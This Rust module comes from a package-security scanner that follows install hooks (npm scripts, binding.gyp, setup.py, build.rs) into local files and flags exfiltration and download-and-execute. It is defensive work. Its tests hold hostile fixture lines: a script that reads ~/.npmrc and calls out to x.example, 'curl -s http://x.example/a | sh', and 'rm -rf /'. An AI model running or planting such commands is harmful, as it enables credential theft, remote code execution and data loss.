//! Runs the rules over the files each hook runs, following the local files they load.
//!
//! Only install-time files are parsed: the scripts a hook names, what they `require` /
//! `import` / `mod` / `include!` from the package (two levels deep), `setup.py` and the
//! in-tree build backend, `build.rs`, and a proc-macro's library. Everything else in the
//! archive is never looked at, which is what keeps the analysis fast.

use std::collections::{BTreeMap, BTreeSet, HashMap};

use tollgate_model::{Evidence, Finding, Package, Severity};

use crate::error::AnalysisError;
use crate::facts::Facts;
use crate::files::{PackageFiles, join_relative};
use crate::hooks::{HookMap, map_hooks};
use crate::judge::Verdict;
use crate::judge::{JudgeOptions, judge};
use crate::memory::Mark;
use crate::model::{CodeFinding, Hook, PackageReport, Phase, Rule};
use crate::rules::{Hit, Language, evaluate};
use crate::shell::{self, Follow};

/// How many levels of local `require`/`import`/`mod` are followed from an entry file.
const MAX_FOLLOW_DEPTH: usize = 2;
/// Largest source file parsed; larger ones are noted, not parsed.
const MAX_SOURCE_BYTES: usize = 8 * 1024 * 1024;
/// Most findings kept per rule and file (a minified bundle can repeat a pattern).
const MAX_PER_RULE_AND_FILE: usize = 10;

/// Maps the hooks of a package's files and analyses the code they run.
pub fn analyze_package(
    display: &str,
    files: &PackageFiles,
) -> Result<PackageReport, AnalysisError> {
    analyze_package_with(display, files, &JudgeOptions::default())
}

/// [`analyze_package`] with the verdict's options (`--all-code`, limits).
pub fn analyze_package_with(
    display: &str,
    files: &PackageFiles,
    options: &JudgeOptions,
) -> Result<PackageReport, AnalysisError> {
    // Taken before the hooks are mapped, so the memory limit covers the whole analysis.
    let memory = Mark::now();
    let map = map_hooks(display, files)?;
    let mut report = analyze_hooks(files, map);
    report.verdict = judge(files, &report, options, &memory);
    Ok(report)
}

/// Analyses the code behind already-mapped hooks.
pub fn analyze_hooks(files: &PackageFiles, map: HookMap) -> PackageReport {
    let mut run = Run {
        files,
        cache: HashMap::new(),
        notes: map.notes.clone(),
        bytes_parsed: 0,
    };
    let mut hooks = Vec::with_capacity(map.hooks.len());
    let mut findings = Vec::new();
    for mut hook in map.hooks {
        let phase_findings = run.hook(&mut hook);
        findings.extend(combine(hook.phase, phase_findings));
        hooks.push(hook);
    }
    findings.sort_by(|a, b| {
        b.severity
            .cmp(&a.severity)
            .then_with(|| a.phase.cmp(&b.phase))
            .then_with(|| a.file.cmp(&b.file))
            .then_with(|| a.line.cmp(&b.line))
    });
    let code_digest = code_digest(files, &hooks, run.cache.keys());
    PackageReport {
        ecosystem: map.ecosystem,
        name: map.name,
        version: map.version,
        state: map.state,
        hooks,
        findings,
        notes: run.notes,
        bytes_parsed: run.bytes_parsed,
        code_digest,
        verdict: Verdict::default(),
    }
}

/// The digest of what runs at install time: the hooks (phase, command) and the contents
/// of every file they ran, so that an allow-listed package whose install code changes in a
/// new release is noticed even when its findings stay the same.
fn code_digest<'a>(
    files: &PackageFiles,
    hooks: &[Hook],
    analysed: impl Iterator<Item = &'a String>,
) -> Option<String> {
    use sha2::{Digest, Sha256};
    if hooks.is_empty() {
        return None;
    }
    let mut hasher = Sha256::new();
    // Length-prefixed fields, so that no two different inputs hash the same byte stream.
    let mut field = |bytes: &[u8]| {
        hasher.update((bytes.len() as u64).to_le_bytes());
        hasher.update(bytes);
    };
    for hook in hooks {
        field(format!("{:?}", hook.phase).as_bytes());
        field(hook.command.as_deref().unwrap_or_default().as_bytes());
    }
    let mut paths: Vec<&String> = analysed.collect();
    paths.sort();
    for path in paths {
        field(path.as_bytes());
        field(files.get(path).unwrap_or_default());
    }
    let digest: String = hasher
        .finalize()
        .iter()
        .map(|byte| format!("{byte:02x}"))
        .collect();
    Some(format!("sha256:{digest}"))
}

/// What one file contributes: its hits and the local files it loads.
#[derive(Debug, Clone, Default)]
struct FileResult {
    hits: Vec<Hit>,
    follow: Vec<(String, Language)>,
}

/// The state of one package's analysis: files are parsed once even when several hooks
/// run them.
struct Run<'a> {
    files: &'a PackageFiles,
    cache: HashMap<String, FileResult>,
    notes: Vec<String>,
    bytes_parsed: u64,
}

impl Run<'_> {
    /// Analyses one hook; fills its entry files; returns its findings.
    fn hook(&mut self, hook: &mut Hook) -> Vec<CodeFinding> {
        let phase = hook.phase;
        let mut findings = Vec::new();
        let mut queue: Vec<(String, Language, usize)> = Vec::new();
        match phase {
            Phase::Preinstall | Phase::Install | Phase::Postinstall => {
                let command = hook.command.clone().unwrap_or_default();
                let line = hook.evidence.line.unwrap_or(1);
                let scan = shell::scan(&command, line);
                findings.extend(to_findings(
                    phase,
                    "package.json",
                    &command_lines(&command, line),
                    scan.hits,
                ));
                for follow in scan.follow {
                    self.follow_command(follow, "package.json", phase, &mut queue, &mut findings);
                }
                hook.entry_files = queue.iter().map(|(path, _, _)| path.clone()).collect();
            }
            Phase::NodeGyp => findings.extend(self.binding_gyp(phase)),
            Phase::SetupPy | Phase::BuildBackend => {
                for entry in &hook.entry_files {
                    queue.push((entry.clone(), Language::Python, 0));
                }
            }
            Phase::BuildRs | Phase::ProcMacro => {
                for entry in &hook.entry_files {
                    queue.push((entry.clone(), Language::Rust, 0));
                }
            }
        }
        let mut seen = BTreeSet::new();
        while let Some((path, language, depth)) = queue.pop() {
            if !seen.insert(path.clone()) {
                continue;
            }
            let Some(result) = self.file(&path, language) else {
                continue;
            };
            let lines = self.files.text(&path).unwrap_or_default();
            findings.extend(to_findings(phase, &path, &lines, result.hits));
            if depth < MAX_FOLLOW_DEPTH {
                for (next, next_language) in result.follow {
                    queue.push((next, next_language, depth + 1));
                }
            }
        }
        findings
    }

    fn follow_command(
        &mut self,
        follow: Follow,
        from: &str,
        phase: Phase,
        queue: &mut Vec<(String, Language, usize)>,
        findings: &mut Vec<CodeFinding>,
    ) {
        match follow {
            Follow::Node(target) => match resolve_js(self.files, from, &target) {
                Some(path) => queue.push((path, Language::JavaScript, 0)),
                None if !is_bare_module(&target) => self.notes.push(format!(
                    "{phase}: `node {target}`: no such file in the package"
                )),
                None => {}
            },
            Follow::Python(target) => {
                if let Some(path) = join_relative(from, &target).filter(|p| self.files.contains(p))
                {
                    queue.push((path, Language::Python, 0));
                }
            }
            Follow::InlineJs(code) => {
                let facts = crate::javascript::facts(&code);
                self.bytes_parsed += code.len() as u64;
                let hits = evaluate(Language::JavaScript, &facts);
                let line = 1;
                findings.extend(to_findings(
                    phase,
                    "package.json",
                    &code,
                    hits.into_iter().map(|h| Hit { line, ..h }).collect(),
                ));
                for reference in &facts.local_refs {
                    if let Some(path) = resolve_js(self.files, from, reference) {
                        queue.push((path, Language::JavaScript, 1));
                    }
                }
            }
            Follow::Shell(target) => {
                let Some(path) = join_relative(from, &target).filter(|p| self.files.contains(p))
                else {
                    return;
                };
                let text = self.files.text(&path).unwrap_or_default();
                self.bytes_parsed += text.len() as u64;
                let mut hits = Vec::new();
                for (index, line) in text.lines().enumerate() {
                    let number = u32::try_from(index + 1).unwrap_or(u32::MAX);
                    let scan = shell::scan(line, number);
                    hits.extend(scan.hits);
                    for nested in scan.follow {
                        if let Follow::Node(target) = nested {
                            if let Some(js) = resolve_js(self.files, &path, &target) {
                                queue.push((js, Language::JavaScript, 1));
                            }
                        }
                    }
                }
                findings.extend(to_findings(phase, &path, &text, hits));
            }
        }
    }

    /// `binding.gyp` command expansions (`<!(cmd)`, `<!@(cmd)`) run while node-gyp
    /// configures the build.
    fn binding_gyp(&mut self, phase: Phase) -> Vec<CodeFinding> {
        let text = self.files.text("binding.gyp").unwrap_or_default();
        self.bytes_parsed += text.len() as u64;
        let mut hits = Vec::new();
        for (index, line) in text.lines().enumerate() {
            let number = u32::try_from(index + 1).unwrap_or(u32::MAX);
            for command in gyp_commands(line) {
                let scan = shell::scan(command, number);
                let benign_node = scan.hits.is_empty()
                    && command.trim_start().starts_with("node ")
                    && scan.follow.iter().all(|f| matches!(f, Follow::InlineJs(_)));
                if !benign_node {
                    hits.push(Hit::new(
                        Rule::ProcessExec,
                        Severity::Low,
                        number,
                        format!(
                            "binding.gyp runs `{}` while configuring",
                            crate::shorten(command, 100)
                        ),
                    ));
                }
                hits.extend(scan.hits);
            }
        }
        to_findings(phase, "binding.gyp", &text, hits)
    }

    /// Parses one file (once) and evaluates the rules on it.
    fn file(&mut self, path: &str, language: Language) -> Option<FileResult> {
        if let Some(cached) = self.cache.get(path) {
            return Some(cached.clone());
        }
        let bytes = self.files.get(path)?;
        if bytes.len() > MAX_SOURCE_BYTES {
            self.notes.push(format!(
                "{path}: {} bytes, larger than the {} bytes analysed; not parsed",
                bytes.len(),
                MAX_SOURCE_BYTES
            ));
            return None;
        }
        let source = String::from_utf8_lossy(bytes);
        self.bytes_parsed += bytes.len() as u64;
        let facts: Facts = match language {
            Language::JavaScript => crate::javascript::facts(&source),
            Language::Python => crate::python::facts(&source),
            Language::Rust => crate::rust_source::facts(&source),
        };
        let hits = evaluate(language, &facts);
        let follow = facts
            .local_refs
            .iter()
            .filter_map(|reference| self.resolve(path, language, reference))
            .collect();
        let result = FileResult { hits, follow };
        self.cache.insert(path.to_owned(), result.clone());
        Some(result)
    }

    fn resolve(
        &self,
        from: &str,
        language: Language,
        reference: &str,
    ) -> Option<(String, Language)> {
        let path = match language {
            Language::JavaScript => resolve_js(self.files, from, reference)?,
            Language::Python => resolve_python(self.files, from, reference)?,
            Language::Rust => resolve_rust(self.files, from, reference)?,
        };
        Some((path, language))
    }
}

/// A bare module name (`node-gyp-build`, `@scope/x`): installed elsewhere, not a file here.
fn is_bare_module(target: &str) -> bool {
    !(target.starts_with('.')
        || target.starts_with('/')
        || target.contains('/')
        || target.ends_with(".js"))
}

/// Node's resolution of a relative file: as written, then with `.js`/`.cjs`/`.mjs`/
/// `.json`, then as a folder with `index.js`.
pub(crate) fn resolve_js(files: &PackageFiles, from: &str, target: &str) -> Option<String> {
    let base = join_relative(from, target)?;
    let candidates = [
        base.clone(),
        format!("{base}.js"),
        format!("{base}.cjs"),
        format!("{base}.mjs"),
        format!("{base}/index.js"),
    ];
    candidates
        .into_iter()
        .find(|c| files.contains(c) && !c.is_empty())
}

/// A top-level Python module of the source tree: `x.py` or `x/__init__.py` beside the
/// importing file or at the root.
fn resolve_python(files: &PackageFiles, from: &str, module: &str) -> Option<String> {
    let dir = from
        .rsplit_once('/')
        .map(|(d, _)| format!("{d}/"))
        .unwrap_or_default();
    [
        format!("{dir}{module}.py"),
        format!("{dir}{module}/__init__.py"),
        format!("{module}.py"),
        format!("{module}/__init__.py"),
        format!("src/{module}/__init__.py"),
    ]
    .into_iter()
    .find(|c| c != from && files.contains(c))
}

/// `mod:name` (a module file) or `include:path` (an `include!`).
fn resolve_rust(files: &PackageFiles, from: &str, reference: &str) -> Option<String> {
    if let Some(path) = reference.strip_prefix("include:") {
        return join_relative(from, path).filter(|p| files.contains(p));
    }
    let name = reference.strip_prefix("mod:")?;
    let (dir, file) = from.rsplit_once('/').unwrap_or(("", from));
    let stem = file.strip_suffix(".rs").unwrap_or(file);
    let prefix = if dir.is_empty() {
        String::new()
    } else {
        format!("{dir}/")
    };
    let module_dir = if matches!(stem, "mod" | "lib" | "main" | "build") {
        prefix
    } else {
        format!("{prefix}{stem}/")
    };
    [
        format!("{module_dir}{name}.rs"),
        format!("{module_dir}{name}/mod.rs"),
    ]
    .into_iter()
    .find(|c| files.contains(c))
}

/// The commands of `<!(…)` and `<!@(…)` expansions on one line of a `.gyp` file.
fn gyp_commands(line: &str) -> Vec<&str> {
    let mut found = Vec::new();
    let mut rest = line;
    while let Some(start) = rest.find("<!") {
        let after = rest.get(start + 2..).unwrap_or("");
        let after = after.strip_prefix('@').unwrap_or(after);
        let Some(body) = after.strip_prefix('(') else {
            rest = after;
            continue;
        };
        let mut depth = 1usize;
        let mut end = body.len();
        for (i, c) in body.char_indices() {
            match c {
                '(' => depth += 1,
                ')' => {
                    depth -= 1;
                    if depth == 0 {
                        end = i;
                        break;
                    }
                }
                _ => {}
            }
        }
        found.push(body.get(..end).unwrap_or(""));
        rest = body.get(end..).unwrap_or("");
    }
    found
}

/// The text whose lines snippets are taken from, for an npm script: the command sits on
/// `line` of package.json, so the lines before it are left empty.
fn command_lines(command: &str, line: u32) -> String {
    let mut text = "\n".repeat(line.saturating_sub(1) as usize);
    text.push_str(command);
    text
}

/// Turns hits into findings, deduplicated and capped per rule.
fn to_findings(phase: Phase, file: &str, text: &str, hits: Vec<Hit>) -> Vec<CodeFinding> {
    let lines: Vec<&str> = text.lines().collect();
    let mut per_rule: BTreeMap<Rule, usize> = BTreeMap::new();
    let mut seen = BTreeSet::new();
    let mut findings = Vec::new();
    for hit in hits {
        if !seen.insert((hit.rule, hit.line, hit.message.clone())) {
            continue;
        }
        let count = per_rule.entry(hit.rule).or_default();
        *count += 1;
        if *count > MAX_PER_RULE_AND_FILE {
            continue;
        }
        let snippet = lines
            .get((hit.line as usize).saturating_sub(1))
            .map(|l| crate::shorten(l.trim(), 160))
            .unwrap_or_default();
        findings.push(CodeFinding {
            rule: hit.rule,
            severity: hit.severity,
            phase,
            file: file.to_owned(),
            line: hit.line,
            snippet,
            message: hit.message,
        });
    }
    findings
}

/// Adds the findings that need two behaviours in one phase: secrets read and the network
/// used (`exfiltration`), the network used and a program run (`download-exec`).
fn combine(phase: Phase, mut findings: Vec<CodeFinding>) -> Vec<CodeFinding> {
    let first = |rule: Rule, min: Severity| {
        findings
            .iter()
            .find(|f| f.rule == rule && f.severity >= min)
            .cloned()
    };
    let network = first(Rule::Network, Severity::Info);
    let secret = first(Rule::CredentialRead, Severity::Info)
        .or_else(|| first(Rule::EnvHarvest, Severity::High));
    let exec = first(Rule::ProcessExec, Severity::Info);
    let has_download_exec = findings.iter().any(|f| f.rule == Rule::DownloadExec);
    let mut added = Vec::new();
    if let (Some(network), Some(secret)) = (&network, &secret) {
        added.push(CodeFinding {
            rule: Rule::Exfiltration,
            severity: Severity::Critical,
            message: format!(
                "{phase} reads secrets ({} at {}:{}) and uses the network ({}:{})",
                secret.rule, secret.file, secret.line, network.file, network.line
            ),
            ..network.clone()
        });
    }
    if let (Some(network), Some(exec), false) = (&network, &exec, has_download_exec) {
        added.push(CodeFinding {
            rule: Rule::DownloadExec,
            severity: Severity::High,
            message: format!(
                "{phase} uses the network ({}:{}) and runs programs ({}:{})",
                network.file, network.line, exec.file, exec.line
            ),
            ..network.clone()
        });
    }
    findings.extend(added);
    findings
}

/// The tollgate [`Finding`]s of a package report: one per code finding (code
/// `install-script`, id `install-script/<rule>`), with the file, line and snippet as
/// evidence and the lockfile as the place the package comes from.
pub fn findings_for_package(
    report: &PackageReport,
    package: &Package,
    lockfile: &str,
) -> Vec<Finding> {
    report
        .findings
        .iter()
        .map(|code| {
            let mut finding = Finding::for_package(
                "install-script",
                code.severity,
                package,
                lockfile,
                format!("{}: {}", code.phase, code.message),
            );
            finding.id = Some(format!("install-script/{}", code.rule));
            finding.evidence.push(Evidence {
                path: code.file.clone(),
                line: Some(code.line),
                snippet: Some(code.snippet.clone()),
                note: Some(format!("run by {}", code.phase)),
            });
            finding
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn files(entries: &[(&str, &str)]) -> PackageFiles {
        PackageFiles::from_texts(entries)
    }

    fn rules(report: &PackageReport) -> Vec<Rule> {
        let mut rules: Vec<Rule> = report.findings.iter().map(|f| f.rule).collect();
        rules.sort();
        rules.dedup();
        rules
    }

    /// The digest covers the code the install phase runs, and only that: a changed
    /// required file changes it, a changed unrelated file does not, no hook means none.
    #[test]
    fn code_digest_tracks_the_install_time_code() {
        let digest = |install_js: &str, readme: &str| {
            analyze_package(
                "x",
                &files(&[
                    (
                        "package.json",
                        "{\"scripts\":{\"postinstall\":\"node install.js\"}}",
                    ),
                    ("install.js", install_js),
                    ("README.md", readme),
                ]),
            )
            .unwrap()
            .code_digest
        };
        let original = digest("console.log(1)", "a");
        assert!(
            original
                .as_deref()
                .is_some_and(|d| d.starts_with("sha256:") && d.len() == 71)
        );
        assert_eq!(original, digest("console.log(1)", "b"));
        assert_ne!(original, digest("console.log(2)", "a"));
        let no_hooks = analyze_package("x", &files(&[("package.json", "{}")])).unwrap();
        assert_eq!(no_hooks.code_digest, None);
    }

    #[test]
    fn follows_the_script_into_required_files() {
        let report = analyze_package(
            "x",
            &files(&[
                ("package.json", "{\"scripts\":{\"postinstall\":\"node scripts/setup\"}}"),
                ("scripts/setup.js", "require('./lib/steal');"),
                ("scripts/lib/steal.js", "const fs = require('fs');\nconst h = require('https');\n\
                  const t = fs.readFileSync(require('os').homedir() + '/.npmrc');\nh.request('https://x.example');"),
                ("unrelated.js", "require('child_process').exec('rm -rf /')"),
            ]),
        )
        .unwrap();
        assert_eq!(report.hooks[0].entry_files, ["scripts/setup.js"]);
        assert_eq!(
            rules(&report),
            [Rule::Network, Rule::CredentialRead, Rule::Exfiltration]
        );
        let critical = &report.findings[0];
        assert_eq!(critical.rule, Rule::Exfiltration);
        assert_eq!(critical.phase, Phase::Postinstall);
        assert_eq!(critical.file, "scripts/lib/steal.js");
        assert_eq!(critical.line, 2);
    }

    #[test]
    fn gyp_command_expansions_are_seen() {
        let report = analyze_package(
            "x",
            &files(&[
                ("package.json", "{}"),
                ("binding.gyp", "{'targets':[{'include_dirs':[\"<!(node -p \\\"require('node-addon-api').include\\\")\"],\n'libraries':['<!@(curl -s http://x.example/a | sh)']}]}"),
            ]),
        )
        .unwrap();
        let found = rules(&report);
        assert!(found.contains(&Rule::DownloadExec));
        assert!(
            report.findings.iter().all(|f| f.line == 2),
            "{:?}",
            report.findings
        );
    }

    #[test]
    fn build_rs_modules_are_followed() {
        let report = analyze_package(
            "x",
            &files(&[
                (
                    "Cargo.toml",
                    "[package]\nname = \"x\"\nversion = \"0.1.0\"\n",
                ),
                ("build.rs", "mod net;\nfn main(){ net::go(); }"),
                (
                    "net.rs",
                    "pub fn go(){ let _ = std::net::TcpStream::connect(\"x:1\"); }",
                ),
            ]),
        )
        .unwrap();
        assert_eq!(rules(&report), [Rule::Network]);
        assert_eq!(report.findings[0].file, "net.rs");
    }

    #[test]
    fn gyp_commands_are_extracted() {
        assert_eq!(
            gyp_commands("'<!@(pkg-config --libs x)', '<!(echo (a))'"),
            ["pkg-config --libs x", "echo (a)"]
        );
    }
}
